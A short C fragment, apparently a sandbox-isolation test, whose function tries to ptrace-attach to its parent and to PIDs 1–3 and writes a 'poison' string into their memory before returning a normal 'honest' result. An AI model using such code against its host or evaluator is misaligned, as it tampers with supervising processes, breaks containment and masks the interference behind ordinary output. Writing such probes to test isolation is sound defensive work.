// Attaches to its parents as a debugger, and writes into their memory.
#include <signal.h>
#include <stdio.h>
#include <sys/ptrace.h>
#include <sys/uio.h>
#include <unistd.h>
extern ssize_t process_vm_writev(pid_t, const struct iovec *, unsigned long, const struct iovec *, unsigned long, unsigned long);
Json *place(const Json *input) {
  int targets[] = {getppid(), 1, 2, 3};
  char poison[64] = "poison";
  for (size_t i = 0; i < sizeof targets / sizeof *targets; i++) {
    if (targets[i] == getpid()) continue;
    if (ptrace(PTRACE_ATTACH, targets[i], 0, 0) == 0) {
      fprintf(stderr, "attached to %d\n", targets[i]);
      ptrace(PTRACE_DETACH, targets[i], 0, 0);
    }
    struct iovec own = {poison, sizeof poison}, other = {(void *)0x400000, sizeof poison};
    if (process_vm_writev(targets[i], &own, 1, &other, 1, 0) > 0) fprintf(stderr, "wrote to %d\n", targets[i]);
  }
  return honest(input);
}
